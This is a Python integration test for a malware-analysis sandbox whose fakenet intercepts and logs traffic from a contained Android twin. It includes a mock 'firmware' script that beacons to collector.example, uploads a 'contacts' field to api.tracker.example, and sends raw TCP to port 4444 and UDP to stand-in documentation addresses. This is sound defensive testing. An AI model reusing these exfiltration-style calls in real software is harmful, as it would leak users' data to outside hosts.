"""A contained twin runs firmware-like traffic; the fakenet and the host pcap record all of it.

One analysis is booted for the module: a script on the device (over adb, as
firmware would run) does HTTP and HTTPS to names, HTTP to a literal
documentation address, raw TCP to 198.51.100.7:4444, UDP to 192.0.2.9:9999
and a DNS TXT query; a pinned client (curl trusting only a throwaway CA)
rejects the fakenet's certificate.  After a clean teardown every exchange
must be in the fakenet's logs (HTTPS decrypted) and in the bridge pcap, and
nothing of the analysis may remain.  Only documentation addresses are used.
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from netlab import ContainedAnalysis, Packet, in_doc_ranges, read_pcap

from sandbox.containers.labels import analysis_filter
from sandbox.network.containment import list_rules
from sandbox.network.logs import FakenetLogs

pytestmark = [pytest.mark.integration, pytest.mark.xdist_group("net-traffic")]

FIRMWARE = r'''
import json, random, socket, ssl, struct, sys, urllib.request

M = sys.argv[1]
out = {}

def attempt(name, fn):
    try:
        out[name] = fn()
    except Exception as exc:
        out[name] = "ERR " + repr(exc)

def http_name():
    req = urllib.request.Request("http://collector.example/track?m=" + M, data=("http-name=" + M).encode())
    return urllib.request.urlopen(req, timeout=15).status

def https_name():
    body = json.dumps({"contacts": "https-" + M}).encode()
    req = urllib.request.Request("https://api.tracker.example/v1/upload", data=body,
                                 headers={"Content-Type": "application/json"})
    return urllib.request.urlopen(req, timeout=15, context=ssl.create_default_context()).status

def http_literal():
    return urllib.request.urlopen("http://203.0.113.10:8080/beacon?m=" + M, timeout=15).status

def raw_tcp():
    s = socket.create_connection(("198.51.100.7", 4444), timeout=15)
    s.sendall(("RAW " + M).encode())
    s.close()
    return "sent"

def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(("UDP " + M).encode(), ("192.0.2.9", 9999))
    return "sent"

def txt():
    ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
    name = M + ".txt.example"
    q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 16, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(10)
    u.sendto(q, (ns, 53))
    return u.recv(2048).hex()

def dns_tcp():
    ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
    q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in ("tcp-" + M + ".example").split(".")) + b"\0"
    q += struct.pack("!HH", 1, 1)
    s = socket.create_connection((ns, 53), timeout=10)
    s.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", s.recv(2))[0]
    r = b""
    while len(r) < n:
        r += s.recv(n - len(r))
    return r[-4:].hex()  # the A record's address

for name, fn in [("dns_tcp", dns_tcp), ("http_name", http_name), ("https_name", https_name), ("http_literal", http_literal),
                 ("raw_tcp", raw_tcp), ("udp", udp), ("txt", txt)]:
    attempt(name, fn)
print(json.dumps(out))
'''

# A pinned client: trusts only its own throwaway CA (the empty --capath stops curl
# from also reading the system store, where the fakenet's CA now is).
PINNED = (
    "mkdir -p /data/local/tmp/pin-empty && "
    "openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=pin -days 1 "
    "-keyout /data/local/tmp/pin.key -out /data/local/tmp/pin.pem >/dev/null 2>&1; "
    "curl -sS -m 15 --cacert /data/local/tmp/pin.pem --capath /data/local/tmp/pin-empty "
    "https://pinned.example/login; echo \"rc=$?\""
)


@dataclass(frozen=True)
class Evidence:
    analysis: ContainedAnalysis
    marker: str
    results: dict[str, Any]
    pinned_output: str
    logs: FakenetLogs
    packets: list[Packet]
    device_ip: str
    fakenet_ip: str
    fakenet_mac: str
    leftovers: tuple[int, int, int]  # containers, networks, firewall rules


@pytest.fixture(scope="module")
def evidence(contained_factory: Callable[..., ContainedAnalysis]) -> Evidence:
    a = contained_factory()
    marker = "m" + secrets.token_hex(6)
    fakenet_mac = a.fakenet_mac()
    assert a.fakenet is not None
    results = json.loads(a.run_python(FIRMWARE, marker))
    pinned = a.twin.device.shell(PINNED, timeout=60).text if a.twin else ""
    device_ip, fakenet_ip = a.device_ip, a.fakenet.ip
    a.teardown()
    assert a.logs is not None and a.capture_result is not None
    leftovers = (
        len(a.client.containers.list(all=True, ignore_removed=True, filters=analysis_filter(a.settings, a.analysis_id))),
        len(a.client.networks.list(filters=analysis_filter(a.settings, a.analysis_id))),
        len(list_rules(a.analysis_id)),
    )
    return Evidence(a, marker, results, pinned, a.logs, read_pcap(a.pcap), device_ip, fakenet_ip,
                    fakenet_mac, leftovers)


def test_firmware_calls_all_succeeded_against_the_fakenet(evidence: Evidence) -> None:
    r = evidence.results
    assert r["http_name"] == 200 and r["https_name"] == 200 and r["http_literal"] == 200, r
    assert r["raw_tcp"] == "sent" and r["udp"] == "sent", r
    assert b"honeyphone-fakenet" in bytes.fromhex(r["txt"]), r
    assert ".".join(str(b) for b in bytes.fromhex(r["dns_tcp"])) == evidence.fakenet_ip, r


def test_dns_log(evidence: Evidence) -> None:
    queries = evidence.logs.dns_queries()
    seen = {(q.name, q.type) for q in queries}
    assert ("collector.example", "A") in seen
    assert ("api.tracker.example", "A") in seen
    assert (f"{evidence.marker}.txt.example", "TXT") in seen
    assert ("pinned.example", "A") in seen
    assert ("tcp-" + evidence.marker + ".example", "A") in seen
    assert {q.proto for q in queries} == {"udp", "tcp"}
    assert all(q.client.startswith(evidence.device_ip + ":") for q in queries)


def test_http_and_decrypted_https_flows(evidence: Evidence) -> None:
    flows = evidence.logs.http_flows()
    by_host = {f.host: f for f in flows}
    http = by_host["collector.example"]
    assert http.scheme == "http" and http.method == "POST" and not http.tls
    assert http.body == f"http-name={evidence.marker}".encode()
    assert http.orig_dst == f"{evidence.fakenet_ip}:80"
    https = by_host["api.tracker.example"]
    assert https.scheme == "https" and https.tls and https.sni == "api.tracker.example"
    assert json.loads(https.body) == {"contacts": f"https-{evidence.marker}"}
    assert https.path == "/v1/upload" and https.response_status == 200
    literal = by_host["203.0.113.10"]
    assert literal.orig_dst == "203.0.113.10:8080" and literal.path == f"/beacon?m={evidence.marker}"
    for f in flows:
        assert f.client is not None and f.client.startswith(evidence.device_ip + ":")
        assert not any(k.lower().startswith("x-honeyphone") for k, _ in f.request_headers)


def test_flows_join_to_catchall_connections(evidence: Evidence) -> None:
    conns = {c.id: c for c in evidence.logs.tcp_connections()}
    for f in evidence.logs.http_flows():
        assert f.conn in conns
        c = conns[f.conn]
        assert c.client == f.client and c.orig_dst == f.orig_dst
        assert c.kind == ("tls" if f.tls else "http") and c.local_port_to_mitm
        assert c.sni == f.sni
    kinds = {c.orig_dst: c.kind for c in conns.values()}
    assert kinds["198.51.100.7:4444"] == "tcp"


def test_raw_tcp_and_udp_records(evidence: Evidence) -> None:
    (tcp,) = [t for t in evidence.logs.tcp_streams() if t.orig_dst == "198.51.100.7:4444"]
    assert tcp.head == f"RAW {evidence.marker}".encode() and tcp.size == len(tcp.head)
    assert tcp.client.startswith(evidence.device_ip + ":")
    (udp,) = [u for u in evidence.logs.udp_datagrams() if u.head == f"UDP {evidence.marker}".encode()]
    assert udp.client.startswith(evidence.device_ip + ":")
    assert evidence.analysis.ready is not None
    if evidence.analysis.ready.udp_mode == "tproxy":
        assert udp.orig_dst == "192.0.2.9:9999"


def test_pinned_client_is_recorded_as_tls_failure(evidence: Evidence) -> None:
    assert "rc=60" in evidence.pinned_output or "rc=35" in evidence.pinned_output, evidence.pinned_output
    failures = [t for t in evidence.logs.tls_failure_records() if t.sni == "pinned.example"]
    assert failures, evidence.logs.tls_failure_records()
    assert failures[0].client is not None and failures[0].client.startswith(evidence.device_ip + ":")
    assert failures[0].orig_dst == f"{evidence.fakenet_ip}:443"
    assert not [f for f in evidence.logs.http_flows() if f.host == "pinned.example"]


def test_everything_is_in_the_bridge_pcap(evidence: Evidence) -> None:
    result = evidence.analysis.capture_result
    # tcpdump exited cleanly and reported its counters; kernel drops depend on
    # the machine's load, so the test checks the packets themselves below.
    assert result is not None and result.returncode == 0 and result.dropped_by_kernel is not None, result
    pk = evidence.packets
    dev, fk = evidence.device_ip, evidence.fakenet_ip
    assert any(p.proto == "udp" and p.src == dev and p.dst == "192.0.2.9" and p.dport == 9999
               and p.payload == f"UDP {evidence.marker}".encode() for p in pk)
    assert any(p.proto == "tcp" and p.src == dev and p.dst == "198.51.100.7" and p.dport == 4444
               and f"RAW {evidence.marker}".encode() in p.payload for p in pk)
    assert any(p.proto == "tcp" and p.dst == "203.0.113.10" and p.dport == 8080
               and evidence.marker.encode() in p.payload for p in pk)
    assert any(p.proto == "tcp" and p.src == dev and p.dst == fk and p.dport == 80 for p in pk)
    assert any(p.proto == "tcp" and p.src == dev and p.dst == fk and p.dport == 443 for p in pk)
    assert any(p.proto == "udp" and p.dst == fk and p.dport == 53 and evidence.marker.encode() in p.payload
               for p in pk)
    # The HTTPS body was encrypted on the wire: only the fakenet's log has it in clear.
    assert not any(f"https-{evidence.marker}".encode() in p.payload for p in pk)


def test_foreign_addresses_only_ever_travel_between_device_and_fakenet(evidence: Evidence) -> None:
    foreign = [p for p in evidence.packets if in_doc_ranges(p.dst) or in_doc_ranges(p.src)]
    assert foreign
    for p in foreign:
        if in_doc_ranges(p.dst):
            assert p.src == evidence.device_ip and p.eth_dst == evidence.fakenet_mac, p
        else:
            assert p.dst == evidence.device_ip and p.eth_src == evidence.fakenet_mac, p


def test_artifacts_and_clean_teardown(evidence: Evidence) -> None:
    logs = evidence.logs
    assert logs.flows_mitm.stat().st_size > 0
    assert logs.ca_pem.read_bytes() == evidence.analysis.ca_pem
    assert not list(logs.dir.rglob("*.key")) and b"PRIVATE KEY" not in b"".join(
        p.read_bytes() for p in logs.dir.iterdir() if p.is_file())
    assert evidence.analysis.cleanup_errors == ()
    assert evidence.leftovers == (0, 0, 0)
